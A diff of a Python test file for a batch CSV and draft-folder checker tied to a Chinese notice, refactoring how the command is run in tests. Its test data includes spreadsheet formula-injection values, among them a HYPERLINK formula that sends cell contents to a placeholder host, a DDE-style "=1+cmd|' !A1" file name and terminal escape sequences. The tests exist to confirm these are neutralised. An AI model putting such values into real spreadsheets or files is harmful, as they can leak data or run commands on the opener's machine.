@@ -23,9 +23,23 @@ EXAMPLES = [example.given for group in NOTICE.groups for example in group.exampl
 SEVERAL = [{}, full_draft(), *EXAMPLES, *(given for _, _, given, _ in ROWS)]
 
 
-def run(*arguments, given=None):
-    done = subprocess.run([sys.executable, "-m", "rules", "assess", "--batch", *map(str, arguments)], cwd=ROOT, input=given, capture_output=True)
+def piped(table):
+    """Through a pipe into a process of its own: what it says, and its code."""
+    done = subprocess.run([sys.executable, "-m", "rules", "assess", "--batch", "-"], cwd=ROOT, input=table, capture_output=True)
     return done.returncode, list(csv.reader(io.StringIO(done.stdout.decode()))), done.stderr.decode()
+
+
+@pytest.fixture
+def run(tmp_path_factory, capsys):
+    """The same command in this process, on a folder or file that is there, or on a table as bytes."""
+    def run(given):
+        if isinstance(given, bytes):
+            path = tmp_path_factory.mktemp("table") / "t.csv"
+            path.write_bytes(given)
+        code = terminal.main(["assess", "--batch", str(path if isinstance(given, bytes) else given)])
+        table, said = capsys.readouterr()
+        return code, list(csv.reader(io.StringIO(table))), said
+    return run
 
 
 @pytest.mark.parametrize("criterion", NOTICE.criteria, ids=lambda criterion: criterion.locator)
@@ -67,8 +81,8 @@ def test_nothing_is_made_for_a_verdict_that_pydantic_would_have_to_check(monkeyp
     ("名称,area,,\n甲,12,,\n", ""),
     ("名称,area,,\n甲,1,200,\n", "这一行比表头多出几格；数字里有逗号的，请把整格加上引号。"),
 ])
-def test_what_a_row_has_that_cannot_be_meant_is_said(table, trouble):
-    code, (_, line), _ = run("-", given=table.encode())
+def test_what_a_row_has_that_cannot_be_meant_is_said(table, trouble, run):
+    code, (_, line), _ = run(table.encode())
     assert code == 0 and line[0] == "甲" and line[-2] == trouble and (line[1] == "") == ("多出" in trouble)
 
 
@@ -76,8 +90,8 @@ def test_what_a_row_has_that_cannot_be_meant_is_said(table, trouble):
     ("名称,area,area\n甲,9,\n", "重复的栏：area"), ("名称,output,output.2022\n甲,不确定,80\n", "重复的栏：output.2022"),
     ('名称,area\n甲,"老厂\n乙,3\n丙,4\n', "引号没有成对"),
 ])
-def test_a_table_that_says_a_thing_twice_or_never_ends_is_refused(table, says):
-    code, lines, said = run("-", given=table.encode())
+def test_a_table_that_says_a_thing_twice_or_never_ends_is_refused(table, says, run):
+    code, lines, said = run(table.encode())
     assert (code, lines) == (2, []) and says in said
 
 
@@ -89,14 +103,14 @@ def test_a_table_of_very_many_columns_is_looked_through_once():
         batch.columns_of(columns)
 
 
-def test_columns_that_are_no_question_are_said_once():
-    code, lines, said = run("-", given="名称,area,备注,output.2019,area_\n甲,12,好,1,\n乙,13,好,2,3\n".encode())
+def test_columns_that_are_no_question_are_said_once(run):
+    code, lines, said = run("名称,area,备注,output.2019,area_\n甲,12,好,1,\n乙,13,好,2,3\n".encode())
     assert (code, [line[-2] for line in lines[1:]]) == (0, ["", ""]) and said == "表中有几栏不是本通知的栏目，没有计入：备注、output.2019、area_。\n"
 
 
-def test_a_line_without_any_value_is_no_cluster_and_counts_as_a_line():
+def test_a_line_without_any_value_is_no_cluster_and_counts_as_a_line(run):
     """As a spreadsheet numbers its lines: one with two lines of text in a cell is one."""
-    code, lines, _ = run("-", given=' 名称 ,area\n"甲\n乙",1\n\n,\n ,2\n,  \n,3\n'.encode())
+    code, lines, _ = run(' 名称 ,area\n"甲\n乙",1\n\n,\n ,2\n,  \n,3\n'.encode())
     assert code == 0 and [line[0] for line in lines[1:]] == ["甲\n乙", "第 5 行", "第 7 行"]
 
 
@@ -106,14 +120,14 @@ NOTICE_WORDS = {"属重点支持": "满足", "未列重点支持": "不适用"} 
 NAMES = {"=HYPERLINK(\"http://x/\"&B1)": "'=HYPERLINK(\"http://x/\"&B1)", "+1": "'+1", "-1": "'-1", "@SUM(1)": "'@SUM(1)", "＝1": "'＝1", "\x1b[2J\u202e甲": "[2J甲", "\x1b=1": "'=1", "a=1": "a=1"}
 
 
-def test_no_name_is_run_by_a_spreadsheet_or_a_terminal():
+def test_no_name_is_run_by_a_spreadsheet_or_a_terminal(run):
     table = io.StringIO(newline="")
     csv.writer(table).writerows([["名称", "area"], *([name, "5"] for name in NAMES)])
-    code, lines, _ = run("-", given=table.getvalue().encode())
+    code, lines, _ = run(table.getvalue().encode())
     assert code == 0 and [line[0] for line in lines[1:]] == list(NAMES.values())
 
 
-def test_nor_is_the_name_of_a_file(tmp_path):
+def test_nor_is_the_name_of_a_file(tmp_path, run):
     (tmp_path / "=1+cmd|' !A1.json").write_text(draft({}))
     (tmp_path / "\x1b[31mred.json").mkdir()
     _, lines, _ = run(tmp_path)
@@ -132,7 +146,7 @@ def test_rows_come_as_drafts_come():
     assert asked == [0]
 
 
-def test_no_bad_draft_stops_a_folder(tmp_path):
+def test_no_bad_draft_stops_a_folder(tmp_path, run):
     files = {"a.json": draft({"area": "12"}), "b.json": "{", "c.json": "[]", "d.json": json.dumps({"notice": "beijing-2024", "answers": {}}),
              "e.json": b"\xff\xfe\x00", "f.json": draft({"area": "很大", "nowhere": 1}), "h.json": "[" * 100_000, "i.html": "<p>别的</p>", "z.json": draft({"area": "101"})}
     for name, text in files.items():
@@ -149,13 +163,13 @@ def test_no_bad_draft_stops_a_folder(tmp_path):
     assert lines["f.json"]["问题"].startswith("2 处没有读懂，第一处（area）：") and "--batch" not in lines["g.json"]["问题"] and lines["f.json"]["基-2"] == "待补充"
 
 
-def test_no_draft_of_a_folder_is_passed_over(tmp_path):
+def test_no_draft_of_a_folder_is_passed_over(tmp_path, run):
     for name in ("a.JSON", "b.json", "c.htm", "d.Html", "e.txt"):
         (tmp_path / name).write_text(draft({}))
     assert [line[0] for line in run(tmp_path)[1][1:]] == ["a.JSON", "b.json", "c.htm", "d.Html"]
 
 
-def test_a_folder_without_drafts_is_refused(tmp_path):
+def test_a_folder_without_drafts_is_refused(tmp_path, run):
     (tmp_path / "notes.txt").write_text("not a draft")
     assert run(tmp_path) == (2, [], f"无法自测：文件夹 {tmp_path} 里没有草稿（.json、.html）。\n")
 
@@ -164,7 +178,7 @@ TABLE = '名称,area,output.2020,output.2021,output.2022,chain_work,cluster_name
 
 
 @pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030"])
-def test_a_table_as_a_spreadsheet_saves_it(tmp_path, encoding):
+def test_a_table_as_a_spreadsheet_saves_it(tmp_path, encoding, run):
     (tmp_path / "t.csv").write_bytes(TABLE.encode(encoding))
     code, table, said = run(tmp_path / "t.csv")
     lines = [dict(zip(table[0], line, strict=True)) for line in table[1:]]
@@ -176,9 +190,9 @@ def test_a_table_as_a_spreadsheet_saves_it(tmp_path, encoding):
     assert lines[2]["问题"].startswith("2 处没有读懂，第一处（area）：")
 
 
-def test_a_table_may_come_through_a_pipe():
-    assert run("-", given=TABLE.encode()) == run("-", given=TABLE.encode("utf-8-sig")) == run("-", given=TABLE.encode("gb18030"))
-    assert len(run("-", given=TABLE.encode())[1]) == 4
+def test_a_table_may_come_through_a_pipe(run):
+    assert piped(TABLE.encode()) == run(TABLE.encode()) == run(TABLE.encode("utf-8-sig")) == run(TABLE.encode("gb18030"))
+    assert len(run(TABLE.encode())[1]) == 4
 
 
 NO_TABLES = {"nowhere.csv": (None, "找不到文件"), "bad.csv": (b"\xff\xff\xff\xff", "不是 UTF-8 或 GBK 文本"), "binary.csv": (b"PK\x03\x04\x00\x00", "不是 UTF-8 或 GBK 文本"),
